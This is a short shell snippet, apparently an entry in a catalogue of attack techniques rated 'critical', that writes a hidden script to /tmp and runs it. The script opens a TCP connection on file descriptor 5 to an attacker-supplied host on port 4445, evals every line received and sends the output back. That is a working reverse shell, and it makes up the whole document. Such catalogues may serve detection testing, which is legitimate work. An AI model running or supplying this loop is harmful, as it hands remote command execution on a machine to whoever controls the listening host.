# SPDX-License-Identifier: MIT
# technique: commands read from a socket on fd 5 and run with their output sent back
# level: critical
# quick: yes
cat >/tmp/.loop.sh <<'X'
exec 5<>/dev/tcp/$ATK/4445
while read -r line <&5; do eval "$line" >&5 2>&5; done
X
t0
ATK=$ATK bash /tmp/.loop.sh
